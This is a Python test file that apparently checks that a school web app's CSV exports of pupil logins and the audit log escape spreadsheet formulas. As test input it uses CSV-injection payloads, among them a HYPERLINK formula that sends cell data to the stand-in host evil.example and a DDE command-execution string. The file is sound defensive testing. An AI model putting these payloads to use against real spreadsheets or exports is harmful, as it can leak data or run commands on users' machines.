"""CSV exports (pupils' logins, the audit log) never hand a spreadsheet a formula: a cell that
would start with = + - @ (or a tab or carriage return) is written as text (realtime/web/exports.py)."""

from __future__ import annotations

import csv
import io

from tests.conftest import login

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)"]


async def _admin(http, world) -> dict[str, str]:
    return {"authorization": f"Bearer {await login(http, world.users['teacher_admin'].username)}"}


async def test_pupils_logins_csv_holds_no_formula(world, http):
    r = await http.post(f"/api/spaces/{world.space_id}/pupils?format=csv", headers=await _admin(http, world),
                        json={"pupils": [*HOSTILE, "Zoé Dupont"], "school": "=cmd|' /C calc'!A0"})
    assert r.status_code == 201, r.text
    rows = list(csv.DictReader(io.StringIO(r.text.removeprefix("\ufeff"))))
    assert [row["name"] for row in rows] == [*("'" + h for h in HOSTILE), "Zoé Dupont"]
    assert {row["school"] for row in rows} == {"'=cmd|' /C calc'!A0"}


async def test_the_audit_log_csv_holds_no_formula(world, http):
    admin = await _admin(http, world)
    for note in HOSTILE:
        r = await http.post(f"/api/spaces/{world.space_id}/invitations", headers=admin,
                            json={"role": "visitor", "note": note})
        assert r.status_code == 201, r.text
    r = await http.get(f"/api/spaces/{world.space_id}/audit?format=csv", headers=admin)
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(r.text.removeprefix("\ufeff"))) if row["action"] == "member.invite"]
    assert sorted(reasons) == sorted("'" + h for h in HOSTILE)
    # The JSON answer is data, not a spreadsheet: it keeps the text as typed.
    entries = (await http.get(f"/api/spaces/{world.space_id}/audit", headers=admin)).json()["entries"]
    assert sorted(e["reason"] for e in entries if e["action"] == "member.invite") == sorted(HOSTILE)
